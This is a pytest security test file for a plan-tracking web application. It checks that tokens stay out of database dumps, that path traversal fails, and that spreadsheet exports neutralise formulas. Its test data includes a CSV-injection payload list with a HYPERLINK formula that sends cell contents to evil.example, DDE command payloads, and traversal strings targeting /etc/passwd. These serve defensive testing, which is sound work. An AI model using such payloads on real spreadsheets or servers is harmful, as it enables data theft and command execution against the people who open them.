"""Security figures not already held elsewhere (RELIABILITY.md "Security" lists every row,
with the existing tests it reuses): tokens absent from a real database dump — SQLite's
`iterdump` and raw file bytes including the WAL, PostgreSQL's `pg_dump` — path traversal
over HTTP, and formula text typed by units never becoming a formula in what managers open.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlalchemy.engine import make_url
from tests.reliability.conftest import Figures
from tests.web.conftest import PLAN_ID, auth, login, obligation_id

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "=cmd|' /C calc'!A0"]


def dump_text(engine: Engine, folder: Path) -> tuple[str, bytes]:
    """(a logical dump, the raw bytes on disk) of the whole database."""
    if engine.dialect.name == "sqlite":
        raw = engine.raw_connection()
        try:
            logical = "\n".join(raw.driver_connection.iterdump())  # type: ignore[union-attr]
        finally:
            raw.close()
        database = Path(str(engine.url.database))
        disk = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*") if p.is_file())
        return logical, disk
    url = make_url(engine.url.render_as_string(hide_password=False)).set(drivername="postgresql")
    pg_dump = shutil.which("pg_dump")
    assert pg_dump, "pg_dump is needed for the PostgreSQL dump figure"
    out = subprocess.run([pg_dump, "--no-owner", url.render_as_string(hide_password=False)],
                         capture_output=True, check=True)
    return out.stdout.decode(), out.stdout


def test_no_token_is_in_a_database_dump(applied: Engine, tokens: dict[str, str], client: TestClient,
                                       tmp_path: Path, figures: Figures) -> None:
    # Use every token every way: API calls, portal logins, wrong guesses close to a real one.
    for name, token in tokens.items():
        client.get("/api/v1/me", headers=auth(token))
        login(client, token, status=401 if name == "revoked" else 303)
        client.get("/api/v1/me", headers=auth(token[:-3] + "abc"))
    logical, disk = dump_text(applied, tmp_path)
    secrets = {name: token.split("_", 2)[2] for name, token in tokens.items()}  # the secret part alone
    found = {name: (tokens[name] in logical or secret in logical or secret.encode() in disk)
             for name, secret in secrets.items()}
    figures.record(f"security_token_dump_{applied.dialect.name}", tokens=len(tokens), dump_bytes=len(disk),
                   plaintext_found=sum(found.values()))
    assert not any(found.values()), found
    assert "api_token" in logical  # the dump is real: the table is in it


@pytest.mark.parametrize("path", [
    "/../../../../etc/passwd", "/api/v1/../../etc/passwd", "/api/v1/plans/..%2F..%2Fetc%2Fpasswd/obligations",
    "/api/v1/plans/%2e%2e/obligations", "/portal/obligations/..%2f..%2fetc%2fpasswd", "/static/../../etc/passwd",
    "/api/v1/plans/portal-2018/obligations/1%2F..%2F2", "/favicon.ico/../../../etc/passwd", "/%00/etc/passwd",
])
def test_path_traversal_over_http_reaches_no_file(path: str, client: TestClient, tokens: dict[str, str]) -> None:
    answer = client.get(path, headers=auth(tokens["coordinator"]), follow_redirects=False)
    assert answer.status_code in (303, 307, 400, 401, 404, 405, 422), (path, answer.status_code)
    assert b"root:" not in answer.content and b"/bin/" not in answer.content


def test_formula_text_typed_by_units_never_becomes_a_formula(applied: Engine, api: Callable[..., Any],
                                                             tmp_path: Path, figures: Figures) -> None:
    from plan_tracker.night import run_nightly
    from plan_tracker.settings import Settings

    for i, formula in enumerate(FORMULAS):
        task = ("s.self-check", "s.summary", "s.plan")[i % 3]
        answer = api("own", "POST", f"/api/v1/plans/{PLAN_ID}/obligations/{obligation_id(applied, task, 'town-a')}/reports",
                     json={"status": "in_progress", "progress": 10 + i, "note": formula})
        assert answer.status_code == 201, answer.text
    day = dt.date(2018, 10, 15)
    settings = Settings(data_dir=tmp_path / "var")
    run_nightly(applied, PLAN_ID, day, now=dt.datetime(2018, 10, 14, 18, tzinfo=dt.UTC), settings=settings)
    workbooks = list((tmp_path / "var" / "reports").rglob("*.xlsx"))
    assert workbooks
    cells = formulas = 0
    texts: list[str] = []
    for path in workbooks:
        book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    cells += 1
                    formulas += cell.data_type == "f"
                    texts.append(str(cell.value))
    # Units' notes are not copied into the managers' workbook; the file a unit gets back —
    # the inbox error file, which echoes what it typed — is where its text returns.
    from plan_tracker.inbox.ingest import ingest_file

    rows = "\n".join(f"s.self-check,once,{f},{f},{f}" for f in FORMULAS)
    csv_file = tmp_path / "hostile.csv"
    csv_file.write_text(f"计划编号,{PLAN_ID},单位编号,town-a\n任务编号,期间,状态,进度(%),情况说明\n{rows}\n", encoding="utf-8")
    receipt = ingest_file(applied, PLAN_ID, csv_file, today=day, inbox=tmp_path / "inbox")
    assert receipt.errors_file is not None
    import csv

    echoed = [cell for row in csv.reader(io.StringIO(receipt.errors_file.read_text(encoding="utf-8-sig"))) for cell in row]
    live = [c for c in echoed if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    figures.record(f"security_formula_{applied.dialect.name}", workbooks=len(workbooks), cells=cells,
                   formula_cells=formulas, hostile_notes=len(FORMULAS), error_file_cells=len(echoed),
                   error_file_live_formulas=len(live),
                   echoed_quoted=sum(1 for c in echoed if c.startswith("'") and c[1:] in FORMULAS))
    assert formulas == 0
    assert not any(t.startswith(("=", "+", "@")) for t in texts)
    assert live == [] and any(c.startswith("'=") for c in echoed)
